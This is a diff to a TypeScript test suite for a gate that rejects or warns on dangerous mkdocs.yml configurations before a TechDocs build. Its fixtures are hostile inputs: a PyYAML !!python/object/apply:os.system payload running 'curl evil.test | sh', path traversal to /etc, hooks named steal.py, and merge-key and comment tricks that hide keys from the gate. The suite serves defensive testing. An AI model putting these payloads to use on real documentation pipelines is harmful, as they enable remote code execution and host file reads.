@@ -14,9 +14,6 @@ const ROWS: [string, string, string[]][] = [
   ['!ENV with a fallback list', "site_name: Docs\nextra:\n  token: !ENV [GITHUB_TOKEN, none]\n", ['mkdocs-unsafe-tag@3']],
   ['!!python/object/apply runs code', "site_name: Docs\nextra:\n  x: !!python/object/apply:os.system ['curl evil.test | sh']\n", ['mkdocs-unsafe-tag@3']],
   ['!!python/name imports anything', "site_name: Docs\nextra:\n  x: !!python/name:os.system\n", ['mkdocs-unsafe-tag@3']],
-  ['hooks run Python files', "site_name: Docs\nhooks:\n  - hooks/steal.py\n", ['mkdocs-hooks@2']],
-  ['INHERIT from outside the repo', "INHERIT: ../../../../etc/mkdocs.yml\nsite_name: Docs\n", ['mkdocs-inherit-outside@1']],
-  ['INHERIT from a file the site does not own', "INHERIT: ../../gitops.config.yaml\nsite_name: Docs\n", ['mkdocs-inherit-outside@1']],
   ['pymdownx.snippets pastes host files into pages', "site_name: Docs\nmarkdown_extensions:\n  - toc\n  - pymdownx.snippets:\n      check_paths: true\n", ['mkdocs-unsafe-extension@4']],
   // Python-Markdown imports the module before `:Class`; MkDocs also takes the mapping form, which
   // Backstage's sanitiser leaves alone; a package or module path around a denied one is denied too.
@@ -27,15 +24,13 @@ const ROWS: [string, string, string[]][] = [
   ['mdx_include pastes files', "site_name: Docs\nmarkdown_extensions:\n  - mdx_include:\n      base_path: /\n", ['mkdocs-unsafe-extension@3']],
   // `<<` is a merge key to MkDocs and TechDocs: what it merges in is built, so it is judged and refused.
   ['a denied extension merged in with <<', "site_name: Docs\n<<: {markdown_extensions: [pymdownx.snippets]}\n", ['mkdocs-merge-key@2', 'mkdocs-unsafe-extension@2']],
-  ['hooks merged in from an anchor', "base: &base\n  hooks: [steal.py]\nsite_name: Docs\n<<: *base\n", ['mkdocs-hooks@4', 'mkdocs-merge-key@4']],
+  ['hooks merged in from an anchor', "base: &base\n  hooks: [steal.py]\nsite_name: Docs\n<<: *base\n", ['mkdocs-merge-key@4']],
   ['docs_dir climbs out to a host path', "site_name: Docs\ndocs_dir: ../../../../tmp/x\n", ['mkdocs-path-outside@2']],
   ['docs_dir absolute', "site_name: Docs\ndocs_dir: /etc\n", ['mkdocs-path-outside@2']],
   ['site_dir climbs out', "site_name: Docs\nsite_dir: ../../../../tmp/out\n", ['mkdocs-path-outside@2']],
-  ['theme.custom_dir reads host templates', "site_name: Docs\ntheme:\n  name: material\n  custom_dir: ../../../../etc\n", ['mkdocs-path-outside@4']],
-  ['extra_css and extra_javascript outside the site', "site_name: Docs\nextra_css:\n  - https://cdn.test/a.css\n  - ../../../x.css\nextra_javascript:\n  - path: /etc/x.js\n", ['mkdocs-path-outside@4', 'mkdocs-path-outside@6']],
-  ['a plugin outside the policy', "site_name: Docs\nplugins:\n  - techdocs-core\n  - macros\n", ['mkdocs-plugin-not-allowed@4']],
-  // Red team, round 4: the group plugin loads the plugins nested under it; monorepo includes read other configs.
-  ['a plugin nested under the allowed group plugin', "site_name: Docs\nplugins:\n  - techdocs-core\n  - group:\n      enabled: true\n      plugins: [macros]\n", ['mkdocs-plugin-not-allowed@6']],
+  ['extra_css outside the site (TechDocs keeps extra_css)', "site_name: Docs\nextra_css:\n  - https://cdn.test/a.css\n  - ../../../x.css\n", ['mkdocs-path-outside@4']],
+  ['watch outside the site (TechDocs keeps watch)', "site_name: Docs\nwatch:\n  - ../../../../etc\n", ['mkdocs-path-outside@3']],
+  // Red team, round 4: monorepo includes read other configs.
   ['a monorepo include of a host file', "site_name: Docs\nnav:\n  - Home: index.md\n  - Notes: '!include /etc/mkdocs.yml'\n", ['mkdocs-path-outside@4']],
   ['a monorepo include climbing out of the site', "site_name: Docs\nnav:\n  - Notes: '*include ../../*/mkdocs.yml'\n", ['mkdocs-path-outside@3']],
   // Red team, round 5: `**/..` that Python's glob reads otherwise than a normalised path; redirect_maps writing anywhere.
@@ -45,7 +40,7 @@ const ROWS: [string, string, string[]][] = [
   ['an explicit ? key hiding redirect_maps from the gate', "site_name: Docs\nplugins:\n  - redirects:\n      ? [redirect_maps]\n      : {'../../x.html': y}\n", ['mkdocs-invalid@1']],
   ['a U+2028 that ends a comment for PyYAML', "site_name: Docs\n# note\u2028extra: !!python/object/apply:os.system ['id']\n", ['mkdocs-invalid@1']],
   ['a merge key behind a comment', "base: &b {hooks: [x.py]}\nsite_name: Docs\n<< # merged\n: *b\n", ['mkdocs-merge-key@3', 'yaml-syntax@3']],
-  ['an explicit merge key behind a comment', "base: &b {hooks: [x.py]}\nsite_name: Docs\n? << # merged\n: *b\n", ['mkdocs-invalid@1', 'mkdocs-hooks@3', 'mkdocs-merge-key@3']],
+  ['an explicit merge key behind a comment', "base: &b {hooks: [x.py]}\nsite_name: Docs\n? << # merged\n: *b\n", ['mkdocs-invalid@1', 'mkdocs-merge-key@3']],
   ['a redirect target that injects markup', "site_name: Docs\nplugins:\n  - techdocs-core\n  - redirects:\n      redirect_maps:\n        old.md: '\"><script>alert(1)</script>'\n", ['mkdocs-path-outside@6']],
 ];
 
@@ -61,6 +56,23 @@ describe('mkdocs.yml cannot reach the publishing job through the gate', () => {
     const security = report.diagnostics.filter(d => d.file === 'handbook/mkdocs.yml' && d.ruleId !== 'mkdocs-dropped-key').map(d => `${d.ruleId}@${d.range.start.line}`);
     expect(security).toEqual(expected);
     expect(result.status).toBe(1);
+  });
+
+  // techdocs-node's sanitizeMkdocsYml (which @techdocs/cli generate runs on every site the toolkit builds) removes
+  // these before MkDocs reads mkdocs.yml: nothing of them runs or is read, so they are warnings, not refusals.
+  it.each([
+    ['hooks', "site_name: Docs\nhooks:\n  - hooks/steal.py\n", 2],
+    ['INHERIT from outside the repo', "INHERIT: ../../../../etc/mkdocs.yml\nsite_name: Docs\n", 1],
+    ['theme.custom_dir outside the site', "site_name: Docs\ntheme:\n  name: material\n  custom_dir: ../../../../etc\n", 4],
+    ['extra_javascript outside the site', "site_name: Docs\nextra_javascript:\n  - path: /etc/x.js\n", 2],
+    ['a plugin outside the policy and TechDocs\' list', "site_name: Docs\nplugins:\n  - techdocs-core\n  - macros\n", 4],
+    ['a plugin nested under the group plugin', "site_name: Docs\nplugins:\n  - techdocs-core\n  - group:\n      enabled: true\n      plugins: [macros]\n", 6],
+  ])('%s: TechDocs removes it before building, a warning on its line', async (_, mkdocs, line) => {
+    const root = await tempRepo({ 'catalog-info.yaml': component, 'handbook/mkdocs.yml': mkdocs, 'handbook/docs/index.md': '# Docs\n' });
+    const result = await runBin(['check', '--format', 'json'], root);
+    const report = JSON.parse(result.stdout) as { diagnostics: { ruleId: string; severity: string; file: string; range: { start: { line: number } } }[] };
+    expect(report.diagnostics.filter(d => d.file === 'handbook/mkdocs.yml').map(d => `${d.severity} ${d.ruleId}@${d.range.start.line}`)).toEqual([`warning mkdocs-dropped-key@${line}`]);
+    expect(result.status).toBe(0);
   });
 
   it('techdocs build refuses docs_dir ../../../../tmp/x before copying: no file lands outside the temp and out dirs', async () => {
@@ -165,7 +177,7 @@ describe('mkdocs.yml cannot reach the publishing job through the gate', () => {
   });
 
   it.each([
-    ['a site_name that climbs out (the plugin copies its docs to a folder of that name)', "'!include docs/sub/mkdocs.yml'", 'docs/sub/mkdocs.yml', 'site_name: ../../../../../tmp/planted\ndocs_dir: files\n', 'mkdocs-path-outside@handbook/docs/sub/mkdocs.yml:1', /its site_name \\?"..\/..\/..\/..\/..\/tmp\/planted\\?" is not a plain name/],
+    ['a site_name that climbs out (the plugin copies its docs to a folder of that name)', "'!include docs/sub/mkdocs.yml'", 'docs/sub/mkdocs.yml', 'site_name: ../../../../../tmp/planted\ndocs_dir: files\n', 'mkdocs-path-outside@handbook/docs/sub/mkdocs.yml:1', /its site_name \\?"..\/..\/..\/..\/..\/tmp\/planted\\?" has a \\?"..\\?" segment/],
     ['a duplicate key (the gate cannot read it, PyYAML keeps the last)', "'!include docs/sub/mkdocs.yml'", 'docs/sub/mkdocs.yml', 'site_name: sub\ndocs_dir: files\ndocs_dir: /etc\n', 'yaml-duplicate-key@handbook/docs/sub/mkdocs.yml:3', /cannot be read as the gate reads it/],
     ['a config a glob finds that the gate\'s own matching would miss', "'*include docs/a/**/../mkdocs.yml'", 'docs/mkdocs.yml', "site_name: Inner\nx: !!python/object/apply:os.system ['id']\n", 'mkdocs-path-outside@handbook/mkdocs.yml:3', /includes \\?"docs\/a\/\*\*\/\.\.\/mkdocs\.yml\\?", outside this site's folder/],
   ])('an included config with %s fails the gate and the build', async (_, include, file, text, expected, refusal) => {
